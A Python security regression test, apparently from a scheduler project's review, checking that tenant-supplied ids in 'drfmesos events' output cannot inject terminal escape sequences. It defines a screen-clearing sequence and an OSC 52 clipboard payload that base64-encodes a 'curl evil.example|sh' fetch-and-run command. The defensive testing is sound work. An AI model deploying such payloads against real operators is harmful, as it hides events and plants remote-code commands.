"""Review 72: a tenant writes terminal control sequences into an operator's terminal
through `drfmesos events`.

`drfmesos events` (an operator's tool) prints each event of the master's stream as a line
(`cluster.local.events.event_line`): its ids, and its `detail`, as they are. The ids are
`Id`s (1-200 characters, any characters: protocol/wire/values.py), and the detail of a
`launch_refused` event is the refusal's words, which quote what the tenant sent: an
Accept naming an offer id, or a task id, holding ESC and BEL is refused, and the event
says "offer <id> is not outstanding" with the tenant's bytes in it, and names the task by
its id. Nothing checks them on the way: the master refuses a task id with control
characters (`id_problem`) only once its offers are found good, and checks an offer id not
at all; `event_line` prints them raw, and `click.echo` passes them to the terminal.

The attacker: mallory sends one such Accept (it needs no offer). The operator following
the stream gets, in its terminal, whatever mallory chose: the screen cleared, lines
rewritten to hide or fake events, its title set, and in terminals that take OSC 52 its
clipboard filled with a command of mallory's. (`drfmesos state` lists live tasks only,
whose ids were checked, and the web UI writes text nodes; rich's `Text`, which `state`
prints with, strips BEL but passes ESC, so it would not save a field that reached it.)

What an operator relies on: what a tenant sends reaches its terminal as text.
"""

from __future__ import annotations

import contextlib
from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from cluster.local.events import event_line
from frameworks.driver import SchedulerDriver
from protocol.wire.messages import Accept, CommandInfo, TaskInfo
from protocol.wire.resources import Resources

from harness.helpers import Recorder, eventually
from harness.trust import Secure, T, secure_cluster

CLEAR = "\x1b[2J\x1b[H"  # clear the screen, cursor home
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07"  # OSC 52: the clipboard, set


@pytest.fixture
async def sec(tmp_path: Path) -> AsyncIterator[Secure]:
    async with secure_cluster("memory", tmp_path) as cluster:
        yield cluster


async def test_a_tenants_ids_reach_drfmesos_events_as_text(sec: Secure) -> None:
    async with contextlib.AsyncExitStack() as stack:
        mallory = SchedulerDriver(
            Recorder(), name="mallory", broker=sec.connect("mallory"), cluster=T.cluster,
            role="mallory",
        )  # fmt: skip
        await mallory.start()
        stack.push_async_callback(mallory._close)
        # (through its scheduler's own connection: the master takes a framework's calls
        # only from the inbox it subscribed with, review 76)
        bus = mallory.bus
        assert bus is not None
        task = TaskInfo(
            task_id=f"t{CLEAR}",
            slave_id="sa",
            resources=Resources(cpus=1),
            command=CommandInfo(value="true"),
        )
        accept = Accept(
            framework_id=mallory.framework_id or "", offer_ids=[f"o{CLIPBOARD}"], tasks=[task]
        )
        await bus.publish(mallory.to_master, accept)
        outbox = sec.master.outbox

        def refused() -> list[str]:
            return [event_line(e) for e in outbox.recent_events if e.kind == "launch_refused"]

        await eventually(lambda: bool(refused()))
        [line] = refused()
        controls = sorted({c for c in line if not c.isprintable()})
        assert not controls, (
            f"`drfmesos events` prints mallory's control characters {controls} to the "
            f"operator's terminal: {line!r}"
        )
